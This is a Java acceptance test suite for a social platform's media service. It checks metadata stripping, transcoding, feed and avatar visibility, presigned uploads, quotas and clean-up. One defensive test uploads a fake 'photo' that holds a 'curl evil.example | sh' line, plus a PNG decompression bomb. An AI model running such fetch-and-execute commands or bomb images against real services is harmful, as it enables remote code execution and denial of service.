package io.murmur.acceptance;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import java.util.zip.CRC32;

import javax.imageio.ImageIO;

import com.drew.imaging.ImageMetadataReader;
import com.drew.metadata.Metadata;
import com.drew.metadata.exif.ExifIFD0Directory;
import com.drew.metadata.exif.GpsDirectory;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.s3.S3Client;
import tools.jackson.databind.JsonNode;

import io.murmur.acceptance.Api.Account;
import io.murmur.localstack.s3.S3Server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Media through the gateway: uploads as a phone would send them, the objects downloaded
 * through the URLs the API gives, and the bucket looked at directly to see that nothing
 * refused stays there; then media on posts, in a follower's feed and as an avatar, as
 * other people see them. The platform runs media-service with a clean-up window of
 * {@link MurmurPlatform#MEDIA_UNATTACHED_AFTER}, presigned URLs living
 * {@link MurmurPlatform#MEDIA_UPLOAD_URL_TTL} and a daily quota of
 * {@value MurmurPlatform#MEDIA_QUOTA_BYTES} bytes.
 */
class MediaAcceptanceTests {

	static final String CAMERA_MAKE = "MurmurCam";

	static final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

	final Api api = new Api(MurmurPlatform.get().gatewayUrl());

	@Nested
	class CleanPhoto {

		@Test
		void shouldServeEveryVariantWithoutExifOrGpsWithAPreviewOfAtMost1280PxAndABlurhash() throws Exception {
			Account user = api.newAccount();
			byte[] photo = photoWithExif(3000, 2000);
			assertThat(metadata(photo).getFirstDirectoryOfType(GpsDirectory.class)).isNotNull();

			Response response = upload(user, "IMG_2041.jpg", photo);

			assertThat(response.status()).as(response.text()).isIn(201, 202);
			JsonNode media = awaitReady(user, response.json().get("id").asString());
			assertThat(media.get("blurhash").asString()).hasSizeGreaterThan(20);
			assertThat(media.get("width").asInt()).isEqualTo(3000);
			List<JsonNode> variants = media.get("variants").valueStream().toList();
			assertThat(variants).hasSize(3);
			for (JsonNode variant : variants) {
				Response download = get(variant.get("url").asString());
				assertThat(download.status()).isEqualTo(200);
				Metadata metadata = metadata(download.body());
				assertThat(metadata.getFirstDirectoryOfType(ExifIFD0Directory.class)).isNull();
				assertThat(metadata.getFirstDirectoryOfType(GpsDirectory.class)).isNull();
				assertThat(new String(download.body(), StandardCharsets.ISO_8859_1)).doesNotContain(CAMERA_MAKE);
			}
			BufferedImage preview = ImageIO
				.read(new ByteArrayInputStream(get(media.get("previewUrl").asString()).body()));
			assertThat(Math.max(preview.getWidth(), preview.getHeight())).isEqualTo(1280);
		}

	}

	@Nested
	class Video {

		@Test
		void shouldTranscodeAPhoneVideoToAnMp4WithAJpegPoster() throws Exception {
			Account user = api.newAccount();

			Response response = upload(user, "VID_0001.mov", phoneVideo());

			assertThat(response.status()).as(response.text()).isEqualTo(202);
			assertThat(response.json().get("state").asString()).isEqualTo("processing");
			JsonNode media = awaitReady(user, response.json().get("id").asString());
			assertThat(media.get("type").asString()).isEqualTo("video");
			assertThat(media.get("contentType").asString()).isEqualTo("video/mp4");
			assertThat(media.get("durationSeconds").asDouble()).isBetween(1.8, 2.2);
			assertThat(media.get("width").asInt()).isEqualTo(640);
			assertThat(media.get("height").asInt()).isEqualTo(360);
			Response video = get(media.get("url").asString());
			assertThat(video.status()).isEqualTo(200);
			assertThat(new String(Arrays.copyOfRange(video.body(), 4, 8), StandardCharsets.ISO_8859_1))
				.isEqualTo("ftyp");
			assertThat(new String(video.body(), StandardCharsets.ISO_8859_1)).doesNotContain("+48.8584");
			Response poster = get(media.get("previewUrl").asString());
			assertThat(poster.status()).isEqualTo(200);
			assertThat(Arrays.copyOf(poster.body(), 2)).containsExactly(0xFF, 0xD8);
			BufferedImage frame = ImageIO.read(new ByteArrayInputStream(poster.body()));
			assertThat(frame.getWidth()).isEqualTo(640);
			assertThat(frame.getHeight()).isEqualTo(360);
		}

	}

	@Nested
	class MediaEverywhere {

		@Test
		void shouldShowAPhotoInAFollowersFeedRefuseItToOthersAndDeleteItWithItsPost() throws Exception {
			Account author = api.newAccount();
			Account follower = api.newAccount();
			Account other = api.newAccount();
			assertThat(api.post("/api/v1/users/" + author.id() + "/follow", null, follower.accessToken()).status())
				.isEqualTo(204);
			Response uploaded = upload(author, "sunset.jpg", jpeg(800, 600));
			assertThat(uploaded.status()).as(uploaded.text()).isEqualTo(201);
			String mediaId = uploaded.json().get("id").asString();

			Api.Response posted = api.post("/api/v1/posts", "{\"text\":\"Sunset\",\"mediaIds\":[\"" + mediaId + "\"]}",
					author.accessToken());

			assertThat(posted.status()).as(posted.body()).isEqualTo(201);
			String postId = posted.json().get("id").asString();
			assertThat(posted.json().get("media").get(0).get("id").asString()).isEqualTo(mediaId);
			JsonNode item = await().atMost(Duration.ofSeconds(10))
				.until(() -> feedItem(follower, postId), java.util.Objects::nonNull);
			JsonNode shown = item.get("media").get(0);
			assertThat(shown.get("id").asString()).isEqualTo(mediaId);
			assertThat(shown.get("type").asString()).isEqualTo("image");
			assertThat(shown.get("width").asInt()).isEqualTo(800);
			assertThat(shown.get("blurhash").asString()).isNotBlank();
			assertThat(shown.get("description").asString()).isEqualTo("A photo");
			Response download = get(shown.get("url").asString());
			assertThat(download.status()).isEqualTo(200);
			assertThat(ImageIO.read(new ByteArrayInputStream(download.body())).getWidth()).isEqualTo(800);
			assertThat(get(shown.get("previewUrl").asString()).status()).isEqualTo(200);

			Api.Response stolen = api.post("/api/v1/posts",
					"{\"text\":\"Mine now\",\"mediaIds\":[\"" + mediaId + "\"]}", other.accessToken());
			assertThat(stolen.status()).isEqualTo(422);
			assertThat(stolen.contentType()).startsWith("application/problem+json");
			assertThat(stolen.json().get("errors").get(0).get("field").asString()).isEqualTo("mediaIds[0]");
			Api.Response again = api.post("/api/v1/posts", "{\"text\":\"Twice\",\"mediaIds\":[\"" + mediaId + "\"]}",
					author.accessToken());
			assertThat(again.status()).isEqualTo(422);
			assertThat(again.json().get("errors").get(0).get("message").asString()).isEqualTo("is on another post");

			assertThat(api.delete("/api/v1/posts/" + postId, author.accessToken()).status()).isEqualTo(204);
			await().atMost(Duration.ofSeconds(30)).until(() -> objectsOf(mediaId).isEmpty());
			assertThat(api.get("/api/v1/media/" + mediaId, author.accessToken()).status()).isEqualTo(404);
		}

		@Test
		void shouldSetAnAvatarAndShowItOnTheProfileToOthers() {
			Account user = api.newAccount();
			Account other = api.newAccount();
			Response uploaded = upload(user, "me.jpg", jpeg(900, 900));
			assertThat(uploaded.status()).as(uploaded.text()).isEqualTo(201);
			String mediaId = uploaded.json().get("id").asString();

			Api.Response refused = api.patch("/api/v1/users/me", "{\"avatarMediaId\":\"" + mediaId + "\"}",
					other.accessToken());
			assertThat(refused.status()).isEqualTo(422);
			assertThat(refused.json().get("errors").get(0).get("field").asString()).isEqualTo("avatarMediaId");
			Api.Response set = api.patch("/api/v1/users/me", "{\"avatarMediaId\":\"" + mediaId + "\"}",
					user.accessToken());
			assertThat(set.status()).as(set.body()).isEqualTo(200);

			JsonNode profile = api.get("/api/v1/users/" + user.id(), other.accessToken()).json();
			Response avatar = get(profile.get("avatarUrl").asString());
			assertThat(avatar.status()).isEqualTo(200);
			assertThat(avatar.headers().firstValue("Content-Type")).hasValue("image/jpeg");
			Response small = get(profile.get("avatarSmallUrl").asString());
			assertThat(small.status()).isEqualTo(200);
			assertThat(profile.get("avatarPreviewUrl").asString()).startsWith("http");
			assertThat(api.get("/api/v1/users/" + other.id(), user.accessToken()).json().get("avatarUrl").isNull())
				.isTrue();
		}

		private JsonNode feedItem(Account reader, String postId) {
			Api.Response page = api.get("/api/v1/feed?limit=20", reader.accessToken());
			assertThat(page.status()).as(page.toString()).isEqualTo(200);
			return page.json()
				.get("items")
				.valueStream()
				.filter((item) -> item.get("id").asString().equals(postId))
				.findFirst()
				.orElse(null);
		}

	}

	@Nested
	class BadInput {

		@Test
		void shouldRefuseAScriptAnOversizedImageABombAndATruncatedJpegAndKeepNothing() {
			Account user = api.newAccount();
			java.util.Set<String> objects = objectKeys();

			Response script = upload(user, "photo.jpg", "#!/bin/sh\ncurl evil.example | sh\n".getBytes());
			assertThat(script.status()).isEqualTo(415);
			assertThat(script.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");

			Response oversized = upload(user, "big.jpg", Arrays.copyOf(jpeg(64, 64), 16 * 1024 * 1024 + 1));
			assertThat(oversized.status()).isEqualTo(413);

			long started = System.nanoTime();
			Response bomb = upload(user, "bomb.png", pngBomb(50_000, 50_000));
			assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(1));
			assertThat(bomb.status()).isEqualTo(422);
			assertThat(bomb.json().get("type").asString()).endsWith("/image-dimensions-too-large");

			byte[] whole = jpeg(800, 600);
			Response truncated = upload(user, "cut.jpg", Arrays.copyOf(whole, whole.length / 2));
			assertThat(truncated.status()).isEqualTo(422);

			java.util.Set<String> added = new java.util.HashSet<>(objectKeys());
			added.removeAll(objects);
			assertThat(added).as("objects left by refused uploads").isEmpty();
			assertThat(MurmurPlatform.get().mediaServiceHealthy()).isTrue();
		}

	}

	@Nested
	class Presigned {

		@Test
		void shouldUploadByPresignedPutAndCompleteThroughTheGateway() {
			Account user = api.newAccount();
			byte[] photo = photoWithExif(1600, 1200);
			JsonNode upload = announce(user, photo.length);

			assertThat(put(upload, photo).status()).isEqualTo(200);
			Api.Response completed = api.post("/api/v1/media/" + upload.get("id").asString() + "/complete", "{}",
					user.accessToken());

			assertThat(completed.status()).as(completed.body()).isIn(200, 202);
			JsonNode media = awaitReady(user, upload.get("id").asString());
			assertThat(media.get("width").asInt()).isEqualTo(1600);
		}

		@Test
		void shouldRefuseAPutOfTheWrongSizeAndAPutAfterExpiry() {
			Account user = api.newAccount();
			byte[] photo = jpeg(400, 300);
			JsonNode wrongSize = announce(user, photo.length + 1);
			assertThat(put(wrongSize, photo).status()).isEqualTo(403);

			JsonNode late = announce(user, photo.length);
			Instant expiresAt = Instant.parse(late.get("expiresAt").asString());
			await().atMost(MurmurPlatform.MEDIA_UPLOAD_URL_TTL.multipliedBy(3))
				.until(() -> Instant.now().isAfter(expiresAt.plusSeconds(1)));
			assertThat(put(late, photo).status()).isEqualTo(403);
			assertThat(api.post("/api/v1/media/" + late.get("id").asString() + "/complete", "{}", user.accessToken())
				.status()).isEqualTo(410);
		}

	}

	@Nested
	class Limits {

		@Test
		void shouldRefuseUploadsPastTheDailyQuotaWith429AndRetryAfter() {
			Account user = api.newAccount();
			long video = 100L * 1024 * 1024;
			for (long announced = 0; announced + video <= MurmurPlatform.MEDIA_QUOTA_BYTES; announced += video) {
				assertThat(api
					.post("/api/v1/media/uploads", "{\"contentType\":\"video/mp4\",\"size\":" + video + "}",
							user.accessToken())
					.status()).isEqualTo(201);
			}

			Api.Response refused = api.post("/api/v1/media/uploads",
					"{\"contentType\":\"video/mp4\",\"size\":" + video + "}", user.accessToken());

			assertThat(refused.status()).isEqualTo(429);
			assertThat(refused.json().get("type").asString()).endsWith("/upload-quota-exceeded");
			assertThat(refused.headers().firstValue("Retry-After")).isPresent();
		}

		@Test
		void shouldDeleteUnattachedMediaFromS3AfterTheWindow() {
			Account user = api.newAccount();
			Response response = upload(user, "draft.jpg", jpeg(300, 200));
			assertThat(response.status()).isEqualTo(201);
			String id = response.json().get("id").asString();
			assertThat(objectsOf(id)).isNotEmpty();

			await().atMost(MurmurPlatform.MEDIA_UNATTACHED_AFTER.plusSeconds(60)).until(() -> objectsOf(id).isEmpty());

			assertThat(api.get("/api/v1/media/" + id, user.accessToken()).status()).isEqualTo(404);
		}

	}

	private JsonNode awaitReady(Account user, String id) {
		return await().atMost(Duration.ofSeconds(60)).until(() -> {
			Api.Response response = api.get("/api/v1/media/" + id, user.accessToken());
			return (response.status() == 200) ? response.json() : null;
		}, (media) -> media != null && media.get("state").asString().equals("ready"));
	}

	private JsonNode announce(Account user, long size) {
		Api.Response response = api.post("/api/v1/media/uploads",
				"{\"contentType\":\"image/jpeg\",\"size\":" + size + "}", user.accessToken());
		assertThat(response.status()).as(response.body()).isEqualTo(201);
		return response.json();
	}

	private static Response put(JsonNode upload, byte[] content) {
		return send(HttpRequest.newBuilder(URI.create(upload.get("uploadUrl").asString()))
			.header("Content-Type", upload.get("headers").get("Content-Type").asString())
			.PUT(HttpRequest.BodyPublishers.ofByteArray(content)));
	}

	private Response upload(Account user, String fileName, byte[] content) {
		String boundary = "----murmur" + UUID.randomUUID();
		ByteArrayOutputStream body = new ByteArrayOutputStream();
		body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"description\"\r\n\r\n"
				+ "A photo\r\n--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
				+ fileName + "\"\r\nContent-Type: image/jpeg\r\n\r\n")
			.getBytes(StandardCharsets.UTF_8));
		body.writeBytes(content);
		body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
		return send(HttpRequest.newBuilder(URI.create(MurmurPlatform.get().gatewayUrl() + "/api/v1/media"))
			.header("Authorization", "Bearer " + user.accessToken())
			.header("Content-Type", "multipart/form-data; boundary=" + boundary)
			.POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())));
	}

	/**
	 * A 2 s QuickTime clip with sound and the place it was shot, as a phone records it,
	 * made by the FFmpeg build media-service ships.
	 */
	private static byte[] phoneVideo() throws IOException, InterruptedException {
		java.nio.file.Path directory = java.nio.file.Files.createTempDirectory("murmur-acceptance-video-");
		try {
			java.nio.file.Path clip = directory.resolve("clip.mov");
			Process ffmpeg = new ProcessBuilder(org.bytedeco.javacpp.Loader.load(org.bytedeco.ffmpeg.ffmpeg.class),
					"-nostdin", "-hide_banner", "-loglevel", "error", "-f", "lavfi", "-i",
					"testsrc=duration=2:size=640x360:rate=25", "-f", "lavfi", "-i", "sine=duration=2", "-c:v", "mpeg4",
					"-c:a", "aac", "-metadata", "location=+48.8584+002.2945/", "-movflags", "use_metadata_tags",
					clip.toString())
				.redirectErrorStream(true)
				.redirectOutput(directory.resolve("ffmpeg.log").toFile())
				.start();
			assertThat(ffmpeg.waitFor(2, java.util.concurrent.TimeUnit.MINUTES)).isTrue();
			assertThat(ffmpeg.exitValue()).as(java.nio.file.Files.readString(directory.resolve("ffmpeg.log"))).isZero();
			return java.nio.file.Files.readAllBytes(clip);
		}
		finally {
			try (java.util.stream.Stream<java.nio.file.Path> files = java.nio.file.Files.walk(directory)) {
				files.sorted(java.util.Comparator.reverseOrder()).forEach((file) -> file.toFile().delete());
			}
		}
	}

	private static Response get(String url) {
		return send(HttpRequest.newBuilder(URI.create(url)).GET());
	}

	private static Response send(HttpRequest.Builder request) {
		try {
			HttpResponse<byte[]> response = http.send(request.timeout(Duration.ofSeconds(60)).build(),
					HttpResponse.BodyHandlers.ofByteArray());
			return new Response(response.statusCode(), response.headers(), response.body());
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(ex);
		}
	}

	private static S3Client s3() {
		S3Server server = MurmurPlatform.get().s3();
		return S3Client.builder()
			.endpointOverride(server.endpointUri())
			.region(Region.of(server.region()))
			.credentialsProvider(StaticCredentialsProvider
				.create(AwsBasicCredentials.create(server.accessKey(), server.secretKey())))
			.forcePathStyle(true)
			.build();
	}

	private static java.util.Set<String> objectKeys() {
		try (S3Client s3 = s3()) {
			return s3.listObjectsV2Paginator((request) -> request.bucket("murmur-media"))
				.contents()
				.stream()
				.map((object) -> object.key())
				.collect(java.util.stream.Collectors.toSet());
		}
	}

	private static List<String> objectsOf(String id) {
		try (S3Client s3 = s3()) {
			return s3.listObjectsV2Paginator((request) -> request.bucket("murmur-media"))
				.contents()
				.stream()
				.map((object) -> object.key())
				.filter((key) -> key.startsWith("media/" + id + "/") || key.equals("incoming/" + id))
				.toList();
		}
	}

	private static Metadata metadata(byte[] image) throws Exception {
		return ImageMetadataReader.readMetadata(new ByteArrayInputStream(image));
	}

	static byte[] jpeg(int width, int height) {
		BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
		Graphics2D graphics = image.createGraphics();
		graphics.setPaint(new java.awt.GradientPaint(0, 0, Color.BLUE, width, height, Color.ORANGE));
		graphics.fillRect(0, 0, width, height);
		graphics.setColor(Color.RED);
		graphics.fillOval(width / 4, height / 4, width / 3, height / 3);
		graphics.dispose();
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try {
			ImageIO.write(image, "jpeg", out);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	/**
	 * A JPEG with an EXIF block carrying a camera make and a GPS latitude, as a phone's.
	 */
	static byte[] photoWithExif(int width, int height) {
		byte[] jpeg = jpeg(width, height);
		byte[] make = (CAMERA_MAKE + "\0").getBytes(StandardCharsets.US_ASCII);
		int makeOffset = 8 + 2 + 2 * 12 + 4;
		int gpsOffset = makeOffset + make.length;
		int latitudeOffset = gpsOffset + 2 + 12 + 4;
		ByteBuffer tiff = ByteBuffer.allocate(latitudeOffset + 24).order(ByteOrder.LITTLE_ENDIAN);
		tiff.put((byte) 'I').put((byte) 'I').putShort((short) 42).putInt(8);
		tiff.putShort((short) 2);
		tiff.putShort((short) 0x010F).putShort((short) 2).putInt(make.length).putInt(makeOffset);
		tiff.putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(gpsOffset);
		tiff.putInt(0);
		tiff.put(make);
		tiff.putShort((short) 1);
		tiff.putShort((short) 0x0002).putShort((short) 5).putInt(3).putInt(latitudeOffset);
		tiff.putInt(0);
		tiff.putInt(52).putInt(1).putInt(22).putInt(1).putInt(1234).putInt(100);
		byte[] exif = new byte[6 + tiff.capacity()];
		System.arraycopy("Exif\0\0".getBytes(StandardCharsets.US_ASCII), 0, exif, 0, 6);
		System.arraycopy(tiff.array(), 0, exif, 6, tiff.capacity());
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(0xFF);
		out.write(0xD8);
		out.write(0xFF);
		out.write(0xE1);
		out.write((exif.length + 2) >> 8);
		out.write((exif.length + 2) & 0xFF);
		out.writeBytes(exif);
		out.write(jpeg, 2, jpeg.length - 2);
		return out.toByteArray();
	}

	/**
	 * A PNG of a few hundred bytes whose header declares a huge image.
	 */
	static byte[] pngBomb(int width, int height) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.writeBytes(new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n' });
		chunk(out, "IHDR", ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2).array());
		chunk(out, "IDAT", new byte[] { 0x78, (byte) 0x9C, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01 });
		chunk(out, "IEND", new byte[0]);
		return out.toByteArray();
	}

	private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
		byte[] name = type.getBytes(StandardCharsets.US_ASCII);
		out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
		out.writeBytes(name);
		out.writeBytes(data);
		CRC32 crc = new CRC32();
		crc.update(name);
		crc.update(data);
		out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
	}

	record Response(int status, java.net.http.HttpHeaders headers, byte[] body) {

		JsonNode json() {
			return Api.json.readTree(this.body);
		}

		String text() {
			return new String(this.body, StandardCharsets.UTF_8);
		}

	}

}
